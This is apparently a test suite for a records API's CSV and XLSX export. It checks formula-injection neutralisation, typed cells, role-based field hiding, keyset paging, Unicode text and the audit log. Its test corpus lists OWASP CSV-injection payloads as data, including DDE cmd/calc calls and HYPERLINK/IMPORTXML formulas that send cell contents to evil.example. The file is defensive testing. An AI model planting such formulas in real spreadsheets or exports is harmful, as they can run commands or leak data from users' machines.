/**
 * Export of list views to CSV and XLSX over HTTP on every dialect: the formula-injection corpus
 * read back with csv-parse and exceljs, typed numbers, money and dates, saved views, hidden
 * fields and record scope for a restricted member, 0 and 1 rows, keyset paging past one
 * page, Cyrillic/Persian/Lithuanian text, the audit log and bad requests.
 */
import { after, before, describe, test } from 'node:test'
import assert from 'node:assert/strict'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { DIALECTS, call, startEnv, type TestEnv } from './support/dialects.js'

/** OWASP CSV-injection payloads and DDE calls; `true` = must come back neutralised. */
const CORPUS: [string, boolean][] = [
  ['=1+1', true],
  ['=cmd|\' /C calc\'!A0', true],
  ['=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', true],
  ['@SUM(1+9)*cmd|\' /C calc\'!A0', true],
  ['-2+3+cmd|\' /C calc\'!A0', true],
  ['+2+5+cmd|\' /C calc\'!A0', true],
  ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', true],
  ['=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")', true],
  ['-5', true],
  ['+3', true],
  ['＝1+1', true],
  ['＋cmd', true],
  ['＠SUM(A1)', true],
  ['"=1+1"', true],
  ['=1+1\r\n=2+2', true],
  ['a=1+1', false],
  ['Ann, "the" = boss', false],
  ['Жанна Лукина', false],
  ['ژینا امینی', false],
  ['Žemaitė Ąžuolė', false],
]

async function download(env: TestEnv, method: 'GET' | 'POST', url: string, body?: unknown, headers = env.auth) {
  const response = await env.app.inject({
    method, url, headers: { ...headers, ...(body !== undefined ? { 'content-type': 'application/json' } : {}) },
    payload: body === undefined ? undefined : JSON.stringify(body),
  })
  return { status: response.statusCode, headers: response.headers, raw: response.rawPayload, text: response.body }
}

const csvRows = (raw: Buffer): string[][] => parse(raw, { bom: true, relax_column_count: false })

async function xlsxRows(raw: Buffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(raw as unknown as ArrayBuffer)
  const sheet = workbook.worksheets[0]
  const rows: unknown[][] = []
  sheet.eachRow({ includeEmpty: true }, (row) => {
    const values: unknown[] = []
    for (let i = 1; i <= sheet.columnCount; i++) values.push(row.getCell(i).value ?? null)
    rows.push(values)
  })
  return rows
}

for (const dialect of DIALECTS) {
  describe(`exports [${dialect.name}]`, () => {
    let env: TestEnv
    let member: { userId: string; auth: { authorization: string } }
    let noExport: { userId: string; auth: { authorization: string } }
    const tag = 'corpus'
    before(async () => {
      env = await startEnv(dialect)
      for (const field of [
        { apiName: 'score', label: 'Score', type: 'number' },
        { apiName: 'tag', label: 'Tag', type: 'text' },
        { apiName: 'spend', label: 'Spend', type: 'currency' },
        { apiName: 'since', label: 'Since', type: 'date' },
      ]) assert.equal((await call(env, 'POST', '/api/v1/metadata/objects/people/fields', field)).status, 201)
      const company = (await call(env, 'POST', '/api/v1/records/companies', { name: '=Evil Co' })).json.data
      const operations = CORPUS.map(([payload], i) => ({
        op: 'create', data: { firstName: payload, lastName: `Row${String(i).padStart(2, '0')}`, tag, score: i % 2 ? -5 : 3, company: company.id },
      }))
      const created = await call(env, 'POST', '/api/v1/records/people/batch', { operations })
      assert.equal(created.status, 200, JSON.stringify(created.json))
      const role = await call(env, 'POST', '/api/v1/access/roles', {
        name: 'Exporter',
        permissions: { defaultObject: { read: true }, objects: { people: { read: true, create: true, export: true } }, fields: { people: { email: 'hidden', score: 'hidden' } } },
      })
      assert.equal(role.status, 201, JSON.stringify(role.json))
      member = await env.addMember(role.json.data.id, 'exporter')
      const plain = await call(env, 'POST', '/api/v1/access/roles', { name: 'Reader', permissions: { defaultObject: { read: true } } })
      noExport = await env.addMember(plain.json.data.id, 'reader')
    })
    after(async () => { await env.close() })

    test('CSV: every corpus cell is neutralised or kept exactly; numbers stay numbers; RFC 4180 parses', async () => {
      const filter = encodeURIComponent(JSON.stringify({ field: 'tag', op: 'eq', value: tag }))
      const response = await download(env, 'GET', `/api/v1/records/people/export?format=csv&filter=${filter}&sort=lastName&fields=firstName,lastName,score,company,spend`)
      assert.equal(response.status, 200, response.text)
      assert.match(String(response.headers['content-type']), /^text\/csv; charset=utf-8/)
      assert.match(String(response.headers['content-disposition']), /attachment; filename="people-\d{4}-\d{2}-\d{2}\.csv"/)
      assert.notEqual(response.raw[0], 0xef, 'no BOM unless asked')
      const rows = csvRows(response.raw)
      assert.deepEqual(rows[0], ['First name', 'Last name', 'Score', 'Company', 'Spend', 'Spend (currency)'])
      assert.equal(rows.length, CORPUS.length + 1)
      CORPUS.forEach(([payload, dangerous], i) => {
        const row = rows[i + 1]
        assert.equal(row[1], `Row${String(i).padStart(2, '0')}`)
        assert.equal(row[0], dangerous ? `'${payload}` : payload, `row ${i}: ${JSON.stringify(payload)}`)
        assert.equal(row[2], i % 2 ? '-5' : '3', 'a number field keeps -5 as -5')
        assert.equal(row[3], "'=Evil Co", 'relation labels are neutralised too')
      })
    })

    test('XLSX: corpus cells as neutralised text, numbers, money and dates as typed cells', async () => {
      const spender = await call(env, 'POST', '/api/v1/records/people', { firstName: 'Money', lastName: 'Typed', tag: 'typed', score: -5, spend: { amount: '1234.50', currency: 'EUR' }, since: '2025-12-31' })
      assert.equal(spender.status, 201, JSON.stringify(spender.json))
      const response = await download(env, 'POST', '/api/v1/records/people/export', {
        format: 'xlsx', filter: { field: 'tag', op: 'in', value: [tag, 'typed'] }, sort: [{ field: 'lastName', dir: 'asc' }], fields: ['firstName', 'lastName', 'score', 'spend', 'since'],
      })
      assert.equal(response.status, 200, response.text)
      assert.equal(response.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
      const rows = await xlsxRows(response.raw)
      assert.deepEqual(rows[0], ['First name', 'Last name', 'Score', 'Spend', 'Spend (currency)', 'Since'])
      CORPUS.forEach(([payload, dangerous], i) => {
        // XML turns CR LF inside text into LF when it is read (XML 1.0 end-of-line handling).
        const expected = payload.replace(/\r\n/g, '\n')
        assert.equal(rows[i + 1][0], dangerous ? `'${expected}` : expected, `row ${i}: ${JSON.stringify(payload)}`)
        assert.equal(rows[i + 1][2], i % 2 ? -5 : 3)
      })
      const typed = rows.find((r) => r[1] === 'Typed')!
      assert.equal(typed[2], -5)
      assert.equal(typed[3], 1234.5)
      assert.equal(typed[4], 'EUR')
      assert.ok(typed[5] instanceof Date)
      assert.equal((typed[5] as Date).toISOString(), '2025-12-31T00:00:00.000Z')
    })

    test('a restricted member exports only their records, without hidden fields; no export permission → 403', async () => {
      assert.equal((await call(env, 'PUT', '/api/v1/access/sharing/people', { access: 'private' })).status, 204)
      try {
        const mine = await call(env, 'POST', '/api/v1/records/people', { firstName: 'Mine', lastName: 'Own' }, member.auth)
        assert.equal(mine.status, 201, JSON.stringify(mine.json))
        assert.equal((await call(env, 'PATCH', `/api/v1/records/people/${mine.json.data.id}`, { email: 'mine@example.com', score: 42 })).status, 200)
        await call(env, 'POST', '/api/v1/records/people', { firstName: 'Secret', lastName: 'Other', email: 'zqxsecret@example.com', score: 987654 })
        for (const format of ['csv', 'xlsx'] as const) {
          const response = await download(env, 'GET', `/api/v1/records/people/export?format=${format}`, undefined, member.auth)
          assert.equal(response.status, 200, response.text)
          const rows = format === 'csv' ? csvRows(response.raw) : await xlsxRows(response.raw)
          assert.equal(rows[0].includes('Email'), false)
          assert.equal(rows[0].includes('Score'), false)
          assert.equal(rows[0].includes('First name'), true)
          assert.deepEqual(rows.slice(1).map((r) => r[rows[0].indexOf('First name')]), ['Mine'])
          if (format === 'csv') assert.equal(response.text.includes('mine@example.com'), false)
        }
        const hidden = await download(env, 'GET', '/api/v1/records/people/export?fields=firstName,email', undefined, member.auth)
        assert.equal(hidden.status, 400)
        assert.equal(JSON.parse(hidden.text).errors[0].pointer, '/fields/1')
        const denied = await download(env, 'GET', '/api/v1/records/people/export', undefined, noExport.auth)
        assert.equal(denied.status, 403)
        assert.match(String(denied.headers['content-type']), /problem\+json/)
      } finally {
        await call(env, 'PUT', '/api/v1/access/sharing/people', { access: 'readWrite' })
      }
    })

    test('0 rows and 1 row, with a BOM; Cyrillic, Persian and Lithuanian text round-trips', async () => {
      const none = await download(env, 'POST', '/api/v1/records/people/export', { filter: { field: 'tag', op: 'eq', value: 'nobody' }, fields: ['firstName'], bom: true })
      assert.equal(none.status, 200)
      assert.deepEqual([...none.raw.subarray(0, 3)], [0xef, 0xbb, 0xbf])
      assert.equal(none.text, '\ufeffFirst name\r\n')
      const emptyXlsx = await download(env, 'POST', '/api/v1/records/people/export', { format: 'xlsx', filter: { field: 'tag', op: 'eq', value: 'nobody' }, fields: ['firstName'] })
      assert.deepEqual(await xlsxRows(emptyXlsx.raw), [['First name']])
      const names = { firstName: 'Жанна ژینا', lastName: 'Žemaitė-Ąžuolė' }
      await call(env, 'POST', '/api/v1/records/people', { ...names, tag: 'one' })
      const body = { filter: { field: 'tag', op: 'eq', value: 'one' }, fields: ['firstName', 'lastName'], bom: true }
      const csv = await download(env, 'POST', '/api/v1/records/people/export', body)
      assert.deepEqual(csvRows(csv.raw), [['First name', 'Last name'], [names.firstName, names.lastName]])
      const xlsx = await download(env, 'POST', '/api/v1/records/people/export', { ...body, format: 'xlsx' })
      assert.deepEqual(await xlsxRows(xlsx.raw), [['First name', 'Last name'], [names.firstName, names.lastName]])
    })

    test('a saved view gives the filter, sort and columns; more than one page is read with keyset paging', async () => {
      const operations = Array.from({ length: 1000 }, (_, i) => ({ op: 'create', data: { firstName: `P${i}`, lastName: `Bulk${String(i).padStart(4, '0')}`, tag: 'bulk' } }))
      assert.equal((await call(env, 'POST', '/api/v1/records/people/batch', { operations })).status, 200)
      assert.equal((await call(env, 'POST', '/api/v1/records/people/batch', { operations: operations.slice(0, 5).map((o, i) => ({ ...o, data: { ...o.data, lastName: `Bulk${1000 + i}` } })) })).status, 200)
      const view = await call(env, 'POST', '/api/v1/views', {
        object: 'people', name: 'Bulk, newest name first', filter: { field: 'tag', op: 'eq', value: 'bulk' }, sort: [{ field: 'lastName', dir: 'desc' }], columns: [{ field: 'lastName' }, { field: 'id' }],
      })
      assert.equal(view.status, 201, JSON.stringify(view.json))
      const csv = await download(env, 'GET', `/api/v1/records/people/export?viewId=${view.json.data.id}`)
      const rows = csvRows(csv.raw)
      assert.deepEqual(rows[0], ['Last name', 'ID'])
      assert.equal(rows.length, 1006)
      assert.deepEqual(rows.slice(1, 4).map((r) => r[0]), ['Bulk1004', 'Bulk1003', 'Bulk1002'])
      assert.equal(rows.at(-1)![0], 'Bulk0000')
      assert.equal(new Set(rows.slice(1).map((r) => r[1])).size, 1005, 'no row twice across pages')
      const xlsx = await download(env, 'GET', `/api/v1/records/people/export?viewId=${view.json.data.id}&format=xlsx`)
      const sheetRows = await xlsxRows(xlsx.raw)
      assert.equal(sheetRows.length, 1006)
      assert.equal(sheetRows[1][0], 'Bulk1004')
      const other = await download(env, 'GET', `/api/v1/records/companies/export?viewId=${view.json.data.id}`)
      assert.equal(other.status, 400)
      assert.equal(JSON.parse(other.text).errors[0].pointer, '/viewId')
    })

    test('every export is in the audit log; bad requests answer problem+json', async () => {
      const log = await call(env, 'GET', '/api/v1/audit-log?limit=500')
      const exports = log.json.data.filter((e: any) => e.event === 'export')
      assert.ok(exports.length >= 5)
      assert.ok(exports.some((e: any) => e.detail.object === 'people' && e.detail.format === 'xlsx'))
      assert.ok(exports.some((e: any) => e.actor === member.userId))
      for (const [url, pointer] of [
        ['/api/v1/records/people/export?format=pdf', '/query/format'],
        ['/api/v1/records/people/export?fields=nope', '/fields/0'],
        ['/api/v1/records/people/export?filter=%7Bbad', '/query/filter'],
        ['/api/v1/records/people/export?sort=nope', '/sort/0/field'],
      ] as const) {
        const response = await download(env, 'GET', url)
        assert.equal(response.status, 400, url)
        const problem = JSON.parse(response.text)
        assert.ok(problem.errors?.some((e: any) => e.pointer === pointer), `${url}: ${response.text}`)
      }
      assert.equal((await download(env, 'GET', '/api/v1/records/nothing/export')).status, 404)
      assert.equal((await download(env, 'GET', '/api/v1/records/people/export?viewId=01J00000000000000000000000')).status, 404)
    })
  })
}
